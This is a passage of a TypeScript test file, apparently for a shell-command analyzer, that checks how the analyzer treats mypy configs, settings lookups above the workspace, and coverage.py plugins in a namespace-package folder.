      uncertain('mypy --config-file mypy-ci.ini src', { 'mypy-ci.ini': '[mypy]\nstrict = True\n' }),
    ).toBe(false);
  });
});

describe('looking for settings above the workspace keeps its own budget', () => {
  it('a folder above that cannot be listed is looked in name by name without spending the reads of what runs', () => {
    const table: Record<string, ScriptFile> = {
      [`${P}/package.json`]: { kind: 'text', text: MANIFEST },
      '/home/u': { kind: 'unreadable', why: 'too-large' },
    };
    const a = analyzeShellSync(
      'npx vitest run && npx eslint . && npx prettier --check .',
      shellEnv({ readScript: (abs) => table[abs] ?? { kind: 'missing' } }),
    );
    expect(a.uncertain.map((u) => u.reason).join('\n')).not.toMatch(/more script files|more settings files/);
  });
});

// Review of round 32: a plugin in a namespace package of the project (a folder without __init__.py), on disk.
describe("a plugin module in a folder without __init__.py is the project's", () => {
  it('coverage report with plugins = cvplug.p', () => {
    const d = diskProject('runner-config-ns-');
    try {
      d.write({ '.coveragerc': '[run]\nplugins = cvplug.p\n', 'cvplug/p.py': 'import os\n' });
      const a = analyzeShellSync('python3 -m coverage report', d.env());
      expect(a.uncertain.some((u) => /configuration/.test(u.reason))).toBe(true);
    } finally {
      d.remove();
    }
  });
});
